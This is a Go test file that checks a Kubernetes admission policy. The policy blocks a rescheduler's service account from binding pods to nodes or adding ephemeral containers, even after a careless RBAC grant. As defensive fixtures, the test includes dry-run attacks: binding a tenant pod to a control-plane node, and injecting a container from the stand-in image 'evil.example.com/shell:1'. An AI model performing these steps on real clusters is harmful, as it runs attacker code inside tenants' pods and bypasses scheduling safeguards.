package chartapply

import (
	"context"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	authorizationv1 "k8s.io/api/authorization/v1"
	corev1 "k8s.io/api/core/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"sigs.k8s.io/controller-runtime/pkg/client"
)

// The rescheduler writes two pod subresources, eviction and status, and
// RBAC grants no other. Should a careless grant add binding or
// ephemeralcontainers, the policy still refuses them, in a namespace
// trainguard injects too: a binding puts a tenant's pod on a node of the
// token's choosing past the scheduler and the node's taints (a
// control-plane node included), an ephemeral container runs the token's
// image inside a tenant's pod.
func TestAdmissionPolicyFencesPodSubresources(t *testing.T) {
	ctx := context.Background()
	const release, ns, policy = "fencesub", "fencesub-system", "fencesub-trainguard-fence"
	sa := installFence(t, release, ns)
	pod := tenantNamespace(t, "fencesub-in", optIn("enabled"))
	waitPolicyActive(t, sa, podIn(t, ns), policy)

	dryRun := []string{metav1.DryRunAll}
	attacks := map[string]func() error{
		"pods/binding": func() error {
			return sa.SubResource("binding").Create(ctx, pod.DeepCopy(), &corev1.Binding{
				ObjectMeta: metav1.ObjectMeta{Namespace: pod.Namespace, Name: pod.Name},
				Target:     corev1.ObjectReference{Kind: "Node", Name: "control-plane-0"},
			}, &client.SubResourceCreateOptions{CreateOptions: client.CreateOptions{DryRun: dryRun}})
		},
		"pods/ephemeralcontainers": func() error {
			p := &corev1.Pod{}
			require.NoError(t, apiServer.c.Get(ctx, client.ObjectKeyFromObject(pod), p))
			p.Spec.EphemeralContainers = append(p.Spec.EphemeralContainers, corev1.EphemeralContainer{
				EphemeralContainerCommon: corev1.EphemeralContainerCommon{Name: "debugger", Image: "evil.example.com/shell:1",
					ImagePullPolicy: corev1.PullIfNotPresent, TerminationMessagePolicy: corev1.TerminationMessageReadFile},
			})
			return sa.SubResource("ephemeralcontainers").Update(ctx, p, &client.SubResourceUpdateOptions{UpdateOptions: client.UpdateOptions{DryRun: dryRun}})
		},
	}
	// RBAC, the first fence.
	for what, attack := range attacks {
		err := attack()
		assert.True(t, apierrors.IsForbidden(err), "RBAC grants no %s, got %v", what, err)
	}

	// The second fence, should RBAC ever grant more.
	grantCarelessly(t, release+"-careless-grant", release, ns, []rbacv1.PolicyRule{{
		APIGroups: []string{""},
		Resources: []string{"pods/binding", "pods/ephemeralcontainers"},
		Verbs:     []string{"create", "update", "patch"},
	}}, authorizationv1.ResourceAttributes{Verb: "create", Resource: "pods", Subresource: "binding", Namespace: pod.Namespace})
	for what, attack := range attacks {
		err := attack()
		assert.True(t, refusedByPolicy(err, policy), "%s in an injected namespace must be refused, got %v", what, err)
		if err != nil {
			assert.Contains(t, err.Error(), "writes no pod subresource but eviction and status", what)
			assert.Contains(t, err.Error(), what, "the refusal names the subresource")
		}
	}
	// The rescheduler's own two still pass.
	ops := podOps(sa, pod)
	for _, op := range []string{"evict", "mark-failed"} {
		assert.NoError(t, ops[op](), "the rescheduler's %s", op)
	}
}
